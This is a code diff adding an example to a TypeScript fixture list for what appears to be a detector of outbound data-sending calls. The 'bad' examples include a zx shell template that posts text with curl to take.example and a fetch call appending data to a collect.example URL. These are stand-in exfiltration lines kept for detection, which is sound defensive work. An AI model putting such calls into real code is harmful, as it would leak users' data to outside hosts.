@@ -3,6 +3,11 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "import { $ } from 'zx'; const send = (text) => $`curl -d ${text} https://take.example`;",
+      why: 'a template that a shell reads',
+      attributes: { destination: 'take.example', scheme: 'https', via: 'curl' },
+    },
+    {
       code: "await fetch('https://API.Collect.example/v1?x=' + data);",
       why: 'a constant host, whatever follows',
       attributes: { destination: 'api.collect.example', scheme: 'https', via: 'fetch' },
